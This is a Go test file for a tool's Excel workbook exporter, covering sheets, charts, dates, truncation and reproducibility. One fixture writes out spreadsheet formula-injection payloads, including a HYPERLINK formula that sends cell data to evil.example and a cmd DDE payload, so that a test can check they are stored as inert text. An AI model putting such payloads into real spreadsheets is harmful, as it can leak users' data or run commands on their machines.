package xlsx

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"flag"
	"io"
	"log/slog"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/xuri/excelize/v2"

	"github.com/briefpack/briefpack/exporters"
	"github.com/briefpack/briefpack/pipeline"
	"github.com/briefpack/briefpack/pipeline/pipelinetest"
)

var update = flag.Bool("update", false, "rewrite golden files")

var testNow = time.Date(2024, 8, 5, 9, 30, 0, 0, time.UTC)

func testOpts() exporters.Options {
	return exporters.Options{Version: "0.1.0-test", Now: testNow}
}

// build exports ds through the registry and returns the workbook bytes.
func build(t testing.TB, ds *pipeline.Dataset, opts exporters.Options) []byte {
	t.Helper()
	ex, err := exporters.New("xlsx", opts)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	dst := &exporters.Dest{Dir: dir}
	if err := ex.Export(context.Background(), ds, dst); err != nil {
		t.Fatal(err)
	}
	if got := dst.Files(); len(got) != 1 || got[0] != FileName {
		t.Fatalf("files = %v, want [%s]", got, FileName)
	}
	data, err := os.ReadFile(filepath.Join(dir, FileName))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func open(t testing.TB, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// TestGolden compares a text dump of the workbook, sheet by sheet, with
// testdata/workbook.golden, and checks that six exports are byte-identical.
func TestGolden(t *testing.T) {
	data := build(t, fixtureDataset(), testOpts())
	got := dumpWorkbook(t, data)
	for n := 0; n < 5; n++ { // excelize writes stream-written sheets in map order; the exporter sorts them
		if again := build(t, fixtureDataset(), testOpts()); !bytes.Equal(again, data) {
			t.Fatalf("export %d of the same dataset differs in bytes", n+2)
		}
	}
	golden := filepath.Join("testdata", "workbook.golden")
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test -update)", err)
	}
	if got != string(want) {
		wl, gl := strings.Split(string(want), "\n"), strings.Split(got, "\n")
		for i := 0; i < len(wl) && i < len(gl); i++ {
			if wl[i] != gl[i] {
				t.Fatalf("workbook differs from %s at line %d:\nwant %s\ngot  %s", golden, i+1, wl[i], gl[i])
			}
		}
		t.Fatalf("workbook differs from %s in length: %d vs %d lines", golden, len(wl), len(gl))
	}
}

func TestSheetsTablesPanes(t *testing.T) {
	ds := fixtureDataset()
	f := open(t, build(t, ds, testOpts()))
	if got := strings.Join(f.GetSheetList(), ","); got != strings.Join(sheetOrder, ",") {
		t.Fatalf("sheets = %s, want %s", got, strings.Join(sheetOrder, ","))
	}
	mentions := 0
	for _, d := range ds.Docs {
		mentions += len(d.Mentions)
	}
	tables := map[string]string{
		shSentences: "tblSentences", shMentions: "tblMentions", shEntities: "tblEntities", shEvents: "tblEvents",
		shRelations: "tblRelations", shDocThemes: "tblThemeRecords", shParagraphs: "tblParagraphs",
		shTimeline: "tblTimeline", shActors: "tblActors", shDocuments: "tblDocuments",
	}
	for sheet, name := range tables {
		tbs, err := f.GetTables(sheet)
		if err != nil || len(tbs) != 1 || tbs[0].Name != name {
			t.Errorf("%s: tables = %+v (%v), want one named %s", sheet, tbs, err, name)
			continue
		}
		panes, _ := f.GetPanes(sheet)
		if !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s: header row not frozen: %+v", sheet, panes)
		}
	}
	tbs, _ := f.GetTables(shMentions)
	if want := "A1:H" + strconv.Itoa(mentions+1); tbs[0].Range != want {
		t.Errorf("mentions table range = %s, want %s", tbs[0].Range, want)
	}
	// Every mention row is there, with the pipeline's offsets.
	rows, _ := f.GetRows(shMentions)
	if len(rows) != mentions+1 {
		t.Fatalf("Mentions has %d rows, want %d", len(rows), mentions+1)
	}
	m := ds.Docs[1].Mentions[0]
	row := rows[len(ds.Docs[0].Mentions)+1]
	if row[0] != m.DocID || row[2] != m.EntityID || row[4] != m.Surface || row[6] != strconv.Itoa(m.Start) {
		t.Errorf("first mention of doc 2 = %q, want %+v", row, m)
	}
}

func TestCharts(t *testing.T) {
	data := build(t, fixtureDataset(), testOpts())
	charts := chartSummaries(t, data)
	if len(charts) != 2 {
		t.Fatalf("want 2 charts, got %d: %q", len(charts), charts)
	}
	all := strings.Join(charts, "")
	for _, want := range []string{"bar:bar", "'Actors'!$B$2:$B$16", "'Actors'!$G$2:$G$16", "'Themes'!$B$2:$G$2", "Leading actors by salience"} {
		if !strings.Contains(all, want) {
			t.Errorf("charts lack %q:\n%s", want, all)
		}
	}
}

// TestActorsMatchViews checks that the Actors sheet shows the pipeline's
// numbers unchanged and links each actor to its first evidence sentence.
func TestActorsMatchViews(t *testing.T) {
	ds := fixtureDataset()
	f := open(t, build(t, ds, testOpts()))
	sentences, _ := f.GetRows(shSentences)
	for i, a := range ds.Views.Actors {
		r := i + 2
		get := func(c int) string {
			v, _ := f.GetCellValue(shActors, cellName(c, r), excelize.Options{RawCellValue: true})
			return v
		}
		if get(2) != a.Name || get(5) != strconv.Itoa(a.Documents) || get(6) != strconv.Itoa(a.Mentions) {
			t.Errorf("row %d: %s %s %s, want %+v", r, get(2), get(5), get(6), a)
		}
		if sal, _ := strconv.ParseFloat(get(7), 64); sal != a.Salience {
			t.Errorf("%s salience = %v, want %v", a.Name, sal, a.Salience)
		}
		if tone, _ := strconv.ParseFloat(get(8), 64); tone != a.Tone {
			t.Errorf("%s tone = %v, want %v", a.Name, tone, a.Tone)
		}
		ok, target, _ := f.GetCellHyperLink(shActors, cellName(2, r))
		if !ok {
			t.Errorf("%s: no link to its evidence", a.Name)
			continue
		}
		// 'Sentences'!I<row>: that row holds the first-mention sentence.
		n, err := strconv.Atoi(strings.TrimPrefix(target, "'Sentences'!I"))
		if err != nil || n < 2 || n > len(sentences) {
			t.Errorf("%s: link target %q", a.Name, target)
			continue
		}
		if got := sentences[n-1][0] + ":" + sentences[n-1][1]; got != a.FirstMention {
			t.Errorf("%s: link goes to %s, want %s", a.Name, got, a.FirstMention)
		}
	}
	// Leading theme columns hold ActorRow.Themes values.
	kaz := ds.Views.Actors[1]
	for c := 9; ; c++ {
		h, _ := f.GetCellValue(shActors, cellName(c, 1))
		if h == "Key statement" || h == "" {
			break
		}
		v, _ := f.GetCellValue(shActors, cellName(c, 3), excelize.Options{RawCellValue: true})
		want := ""
		for _, ts := range kaz.Themes {
			if ts.Label == h {
				want = strconv.FormatFloat(ts.Score, 'f', -1, 64)
			}
		}
		if v != want {
			t.Errorf("%s theme %q = %q, want %q", kaz.Name, h, v, want)
		}
	}
}

func TestCountriesSideBySide(t *testing.T) {
	ds := fixtureDataset()
	f := open(t, build(t, ds, testOpts()))
	rows, _ := f.GetRows(shCountries)
	var got []string
	for _, v := range rows[0][1:] {
		got = append(got, v)
	}
	var want []string
	for _, c := range ds.Views.Countries {
		want = append(want, c.Name)
	}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Fatalf("country columns = %v, want %v", got, want)
	}
	for _, name := range []string{"Kazakhstan", "Uzbekistan", "Kyrgyzstan", "Tajikistan", "Turkmenistan", "Japan", "China", "Russia"} {
		if !strings.Contains(","+strings.Join(got, ",")+",", ","+name+",") {
			t.Errorf("%s missing from the country columns", name)
		}
	}
	labels := map[string]int{}
	for i, r := range rows {
		if len(r) > 0 {
			labels[r[0]] = i
		}
	}
	for _, m := range []string{"Mentions", "Salience", "Tone", "Key statement", "Theme: Diplomacy"} {
		if _, ok := labels[m]; !ok {
			t.Errorf("metric row %q missing", m)
		}
	}
	if got := rows[labels["Mentions"]][1]; got != strconv.Itoa(ds.Views.Countries[0].Mentions) {
		t.Errorf("mentions of %s = %s, want %d", want[0], got, ds.Views.Countries[0].Mentions)
	}
}

// TestTimelineDates checks real dates with a number format per precision,
// and text-only rows for unresolved relative dates.
func TestTimelineDates(t *testing.T) {
	ds := fixtureDataset()
	f := open(t, build(t, ds, testOpts()))
	wantFmt := map[string]string{"day": "d mmm yyyy", "month": "mmm yyyy", "year": "yyyy", "decade": `yyyy"s"`}
	for i, ev := range ds.Views.Timeline {
		cell := cellName(1, i+2)
		raw, _ := f.GetCellValue(shTimeline, cell, excelize.Options{RawCellValue: true})
		typ, _ := f.GetCellType(shTimeline, cell)
		if ev.SortKey == "" {
			if raw != "" {
				t.Errorf("%s (%s): relative date has a date cell %q", cell, ev.DateText, raw)
			}
			if txt, _ := f.GetCellValue(shTimeline, cellName(5, i+2)); txt != ev.DateText {
				t.Errorf("%s: as written = %q, want %q", cell, txt, ev.DateText)
			}
			continue
		}
		if typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
			t.Errorf("%s: date stored as text %q", cell, raw)
			continue
		}
		serial, err := strconv.ParseFloat(raw, 64)
		if err != nil {
			t.Errorf("%s: not a number: %q", cell, raw)
			continue
		}
		first, _ := time.Parse("2006-01-02", ev.SortKey)
		if want := first.Sub(time.Date(1899, 12, 30, 0, 0, 0, 0, time.UTC)).Hours() / 24; serial != want {
			t.Errorf("%s: serial %v, want %v (%s)", cell, serial, want, ev.SortKey)
		}
		id, _ := f.GetCellStyle(shTimeline, cell)
		st, _ := f.GetStyle(id)
		if st.CustomNumFmt == nil || *st.CustomNumFmt != wantFmt[ev.Precision] {
			t.Errorf("%s (%s): number format %v, want %q", cell, ev.Precision, st.CustomNumFmt, wantFmt[ev.Precision])
		}
	}
}

// hostile returns the fixture with text built to attack a spreadsheet.
func hostile() *pipeline.Dataset {
	ds := fixtureDataset()
	d := ds.Docs[0]
	d.Document.Title = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	d.Sentences[0].Text = "+cmd|' /C calc'!A0"
	d.Sentences[1].Text = "-2+3"
	d.Sentences[2].Text = "@SUM(A1:A9)"
	d.Sentences[3].Text = "bad \xff utf-8 \x01 control"
	ds.Views.Actors[0].Name = "=1+1"
	return ds
}

func TestFormulasNeverWritten(t *testing.T) {
	data := build(t, hostile(), testOpts())
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/sheet") {
			continue
		}
		rc, _ := zf.Open()
		x, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(x, []byte("<f>")) || bytes.Contains(x, []byte("<f ")) {
			t.Errorf("%s contains a formula", zf.Name)
		}
	}
	f := open(t, data)
	checks := []struct{ sheet, cell, want string }{
		{shSentences, "I2", "+cmd|' /C calc'!A0"},
		{shSentences, "I3", "-2+3"},
		{shSentences, "I4", "@SUM(A1:A9)"},
		{shActors, "B2", "=1+1"},
		{shOverview, "B" + strconv.Itoa(docTitleRow(t, f)), `=HYPERLINK("http://evil.example/?x="&A1,"click")`},
	}
	for _, c := range checks {
		v, _ := f.GetCellValue(c.sheet, c.cell)
		typ, _ := f.GetCellType(c.sheet, c.cell)
		if v != c.want || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
			t.Errorf("%s!%s = %q (type %d), want the string %q", c.sheet, c.cell, v, typ, c.want)
		}
	}
	if v, _ := f.GetCellValue(shSentences, "I5"); !strings.Contains(v, "\uFFFD") {
		t.Errorf("invalid UTF-8 not replaced: %q", v)
	}
}

func docTitleRow(t *testing.T, f *excelize.File) int {
	rows, _ := f.GetRows(shOverview)
	for i, r := range rows {
		if len(r) > 1 && r[0] == "1" {
			return i + 1
		}
	}
	t.Fatal("document list not found on Overview")
	return 0
}

type countHandler struct {
	slog.Handler
	msgs *[]string
}

func (h countHandler) Enabled(context.Context, slog.Level) bool { return true }

func (h countHandler) Handle(_ context.Context, r slog.Record) error {
	s := r.Message
	r.Attrs(func(a slog.Attr) bool { s += " " + a.Key + "=" + a.Value.String(); return true })
	*h.msgs = append(*h.msgs, s)
	return nil
}

func TestTruncation(t *testing.T) {
	ds := fixtureDataset()
	long := strings.Repeat("a", MaxCellChars-3) + "😀😀" // 32,768 UTF-16 units: one too many
	ds.Docs[0].Sentences[0].Text = long
	ds.Docs[0].Paragraphs[0].Text = strings.Repeat("Ж", 40000)
	var msgs []string
	opts := testOpts()
	opts.Logger = slog.New(countHandler{slog.DiscardHandler, &msgs})
	f := open(t, build(t, ds, opts))
	for _, c := range []struct{ sheet, cell string }{{shSentences, "I2"}, {shParagraphs, "F2"}} {
		v, _ := f.GetCellValue(c.sheet, c.cell)
		if n := len(utf16.Encode([]rune(v))); n > MaxCellChars || !strings.HasSuffix(v, TruncationMarker) {
			t.Errorf("%s!%s: %d UTF-16 units, suffix %q", c.sheet, c.cell, n, v[max(0, len(v)-20):])
		}
	}
	if len(msgs) != 1 || !strings.Contains(msgs[0], "cells=2") {
		t.Errorf("warnings = %q, want one with cells=2", msgs)
	}
}

func TestTruncateUTF16(t *testing.T) {
	marker := len(utf16.Encode([]rune(TruncationMarker)))
	cases := []struct {
		in      string
		max     int
		want    string
		wantCut bool
	}{
		{"short", 100, "short", false},
		{strings.Repeat("x", 20), 20, strings.Repeat("x", 20), false},
		{strings.Repeat("x", 21), 20, strings.Repeat("x", 20-marker) + TruncationMarker, true},
		// A surrogate pair is never split: 😀 takes two units.
		{strings.Repeat("x", 20-marker-1) + "😀" + strings.Repeat("y", marker), 20, strings.Repeat("x", 20-marker-1) + TruncationMarker, true},
	}
	for _, c := range cases {
		got, cut := truncateUTF16(c.in, c.max)
		if got != c.want || cut != c.wantCut {
			t.Errorf("truncateUTF16(%q, %d) = %q, %v; want %q, %v", c.in, c.max, got, cut, c.want, c.wantCut)
		}
	}
}

func TestParseISODate(t *testing.T) {
	cases := []struct {
		in, date, prec string
		ok             bool
	}{
		{"2004", "2004-01-01", "year", true},
		{"2024-08", "2024-08-01", "month", true},
		{"2024-08-09", "2024-08-09", "day", true},
		{"2024-08-09T10:00:00+02:00", "2024-08-09", "time", true},
		{"1850", "", "", false}, // before Excel's calendar
		{"1990s", "", "", false},
		{"", "", "", false},
		{"next week", "", "", false},
	}
	for _, c := range cases {
		d, p, ok := parseISODate(c.in)
		if ok != c.ok || p != c.prec || (ok && d.Format("2006-01-02") != c.date) {
			t.Errorf("parseISODate(%q) = %v %q %v", c.in, d, p, ok)
		}
	}
}

func TestDocProps(t *testing.T) {
	f := open(t, build(t, fixtureDataset(), testOpts()))
	p, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if p.Created != "2024-08-05T09:30:00Z" || p.Modified != p.Created || p.Creator != "briefpack 0.1.0-test" {
		t.Errorf("doc props = %+v", p)
	}
}

func TestNearDuplicates(t *testing.T) {
	ds := fixtureDataset()
	ds.Views.DocCompare.Pairs[0].NearDuplicate = true
	f := open(t, build(t, ds, testOpts()))
	cfs, _ := f.GetConditionalFormats(shPairs)
	found := false
	for _, opts := range cfs {
		for _, o := range opts {
			found = found || (o.Type == "formula" && o.Criteria == "$D2=TRUE")
		}
	}
	if !found {
		t.Errorf("Doc pairs: no near-duplicate fill rule: %+v", cfs)
	}
	if v, _ := f.GetCellValue(shPairs, "D2"); v != "TRUE" {
		t.Errorf("Doc pairs D2 = %q, want TRUE", v)
	}
	// In the similarity matrix the pair's cells are filled.
	rows, _ := f.GetRows(shDocuments)
	for i, r := range rows {
		if len(r) > 0 && r[0] == "#1" {
			id, _ := f.GetCellStyle(shDocuments, cellName(5, i+1))
			st, _ := f.GetStyle(id)
			if len(st.Fill.Color) == 0 || st.Fill.Color[0] != "FFC7CE" {
				t.Errorf("near-duplicate cell %s not filled: %+v", cellName(5, i+1), st.Fill)
			}
			return
		}
	}
	t.Error("similarity matrix not found")
}

func TestEmptyDataset(t *testing.T) {
	f := open(t, build(t, &pipeline.Dataset{}, testOpts()))
	if len(f.GetSheetList()) != len(sheetOrder) {
		t.Errorf("sheets = %v", f.GetSheetList())
	}
}

func TestCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	dir := t.TempDir()
	ex, _ := New(testOpts())
	if err := ex.Export(ctx, fixtureDataset(), &exporters.Dest{Dir: dir}); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if _, err := os.Stat(filepath.Join(dir, FileName)); !os.IsNotExist(err) {
		t.Errorf("workbook left after cancel: %v", err)
	}
}

// TestLibreOffice converts the workbook (of the fixture and of the seed
// article through the real pipeline) to PDF with LibreOffice headless, the
// stricter of the two common readers. Set BRIEFPACK_KEEP_PDF to a folder
// to keep the PDFs for a look.
func TestLibreOffice(t *testing.T) {
	soffice := ""
	for _, name := range []string{"soffice", "libreoffice"} {
		if p, err := exec.LookPath(name); err == nil {
			soffice = p
			break
		}
	}
	if soffice == "" {
		t.Skip("LibreOffice (soffice) not on PATH; skipping the conversion check")
	}
	if testing.Short() {
		t.Skip("skipping LibreOffice conversion in -short mode")
	}
	cases := []struct {
		name string
		ds   func() *pipeline.Dataset
		want []string
	}{
		{"fixture", fixtureDataset, []string{"Kazakhstan", "Turkmenistan", "19 Sep 2023", "Theme by actor"}},
		{"seed", func() *pipeline.Dataset { return pipelinetest.Seed(t) }, []string{"Kazakhstan", "Japan", "2004", "Theme by actor"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			if keep := os.Getenv("BRIEFPACK_KEEP_PDF"); keep != "" {
				dir = filepath.Join(keep, c.name)
				if err := os.MkdirAll(dir, 0o755); err != nil {
					t.Fatal(err)
				}
			}
			in := filepath.Join(dir, FileName)
			if err := os.WriteFile(in, build(t, c.ds(), testOpts()), 0o644); err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
			defer cancel()
			cmd := exec.CommandContext(ctx, soffice, "--headless", "-env:UserInstallation=file://"+filepath.Join(t.TempDir(), "lo"),
				"--convert-to", "pdf", "--outdir", dir, in)
			out, err := cmd.CombinedOutput()
			if err != nil {
				t.Fatalf("soffice: %v\n%s", err, out)
			}
			pdf, err := os.ReadFile(filepath.Join(dir, "comparison.pdf"))
			if err != nil {
				t.Fatalf("no PDF: %v\n%s", err, out)
			}
			if !bytes.HasPrefix(pdf, []byte("%PDF")) || len(pdf) < 10000 {
				t.Fatalf("PDF looks wrong: %d bytes", len(pdf))
			}
			if p, err := exec.LookPath("pdftotext"); err == nil {
				txt, err := exec.Command(p, filepath.Join(dir, "comparison.pdf"), "-").Output()
				if err != nil {
					t.Fatal(err)
				}
				for _, want := range c.want {
					if !bytes.Contains(txt, []byte(want)) {
						t.Errorf("converted PDF lacks %q", want)
					}
				}
			}
		})
	}
}

// TestNonFiniteNumbers checks that NaN and infinities from a faulty stage
// become empty cells instead of an invalid file.
func TestNonFiniteNumbers(t *testing.T) {
	ds := fixtureDataset()
	nan := math.NaN()
	ds.Views.Actors[0].Salience = nan
	ds.Views.Countries[0].Tone = math.Inf(1)
	ds.Docs[0].Sentences[0].Tone = math.Inf(-1)
	ds.Views.ThemeByActor.Values[0][0] = nan
	f := open(t, build(t, ds, testOpts()))
	for _, c := range []struct{ sheet, cell string }{{shActors, "G2"}, {shSentences, "G2"}, {shThemes, "B3"}} {
		if v, _ := f.GetCellValue(c.sheet, c.cell); v != "" {
			t.Errorf("%s!%s = %q, want empty", c.sheet, c.cell, v)
		}
	}
}

// TestNoClock checks that a workbook built without a clock still has valid,
// fixed dates in its properties.
func TestNoClock(t *testing.T) {
	ds := fixtureDataset()
	ds.Run.Started = time.Time{}
	data := build(t, ds, exporters.Options{})
	p, err := open(t, data).GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if strings.HasPrefix(p.Created, "0001") || p.Created != p.Modified {
		t.Errorf("created %q modified %q", p.Created, p.Modified)
	}
	if dumpWorkbook(t, data) != dumpWorkbook(t, build(t, ds, exporters.Options{})) {
		t.Error("two builds without a clock differ")
	}
}

// TestTimelineOldDates checks that a date Excel cannot hold (before 1900)
// leaves the date cell empty and keeps the ISO text.
func TestTimelineOldDates(t *testing.T) {
	ds := fixtureDataset()
	ds.Views.Timeline[0].SortKey = "1000-01-01"
	ds.Views.Timeline[0].Date = "1000"
	ds.Views.Timeline[0].Precision = "year"
	f := open(t, build(t, ds, testOpts()))
	if v, _ := f.GetCellValue(shTimeline, "A2"); v != "" {
		t.Errorf("A2 = %q, want empty", v)
	}
	if v, _ := f.GetCellValue(shTimeline, "D2"); v != "1000" {
		t.Errorf("D2 = %q, want the ISO date 1000", v)
	}
}

// FuzzParseISODate checks the date reader never panics, only accepts dates
// Excel can hold, and reads what it accepts faithfully.
func FuzzParseISODate(f *testing.F) {
	for _, s := range []string{"2004", "2024-08", "2024-08-09", "2024-08-09T10:00:00Z", "1899-12-31", "9999-12-31", "10000", "", "2024-13", "x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		d, p, ok := parseISODate(s)
		if !ok {
			return
		}
		if d.Year() < 1900 || d.Year() > 9999 {
			t.Fatalf("%q: accepted year %d", s, d.Year())
		}
		layout := map[string]string{"year": "2006", "month": "2006-01", "day": "2006-01-02"}[p]
		if layout != "" && d.Format(layout) != strings.TrimSpace(s) {
			t.Fatalf("%q read as %s (%s)", s, d.Format(layout), p)
		}
	})
}
